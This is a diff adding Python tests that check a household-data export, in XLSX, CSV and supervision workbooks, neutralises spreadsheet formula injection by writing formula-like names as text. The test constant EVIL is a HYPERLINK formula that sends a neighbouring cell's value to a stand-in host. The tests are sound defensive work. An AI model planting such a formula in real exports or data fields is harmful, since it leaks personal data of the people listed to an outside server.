@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import csv
 import io
+import re
+import zipfile
 
 from openpyxl import load_workbook
 from sqlalchemy import func, select
@@ -11,6 +14,7 @@ from tests.conftest import NOW, csrf_from, login
 from transfers.cases.services import open_intake
 from transfers.privacy.models import AccessLog
 from transfers.privacy.services import verify_access_log
+from transfers.supervision.excel import workbook
 from workflows.roles import Role
 
 
@@ -134,3 +138,35 @@ def test_full_ids_cannot_be_fetched_by_a_plain_get(client, make_user, make_house
     resp = client.post("/exports/households.xlsx?ids=full", data={"purpose": "hukou"})
     assert resp.status_code in (400, 422) and resp.mimetype == "text/html"
     assert db.session.scalar(select(func.count()).select_from(AccessLog)) == 0
+
+
+EVIL = '=HYPERLINK("//e.example/?"&C2,"点此")'  # fits a name (40 characters)
+
+
+def _formulas(xlsx: bytes) -> list[str]:
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+        return [f for n in sheets for f in re.findall(r"<f>.*?</f>", z.read(n).decode())]
+
+
+def test_a_formula_typed_as_a_name_is_exported_as_text(client, make_user, make_household, db):  # type: ignore[no-untyped-def]
+    staff = make_user(Role.VILLAGE_STAFF, "411221100201")
+    hh = make_household()
+    hh.members[0].name = EVIL
+    db.session.commit()
+    login(client, staff)
+    resp = client.get("/exports/households.xlsx")
+    assert resp.status_code == 200 and _formulas(resp.data) == []
+    cell = load_workbook(io.BytesIO(resp.data)).active["B2"]
+    assert cell.value.startswith("=") and cell.data_type == "s"
+    text = client.get("/exports/households.csv").data.decode("utf-8-sig")
+    name = next(csv.reader(io.StringIO(text.splitlines()[1])))[1]
+    assert name.startswith("'=")
+
+
+def test_supervision_workbooks_write_formula_like_text_as_text():  # type: ignore[no-untyped-def]
+    out = workbook([("台账", "标题", ["姓名", "电话", "数"], [[EVIL, "-", -3]])]).getvalue()
+    assert _formulas(out) == []
+    ws = load_workbook(io.BytesIO(out)).active
+    assert [c.value for c in ws[3]] == [1, EVIL, "-", -3]
+    assert ws["B3"].data_type == "s" and ws["B3"].quotePrefix and ws["D3"].data_type == "n"
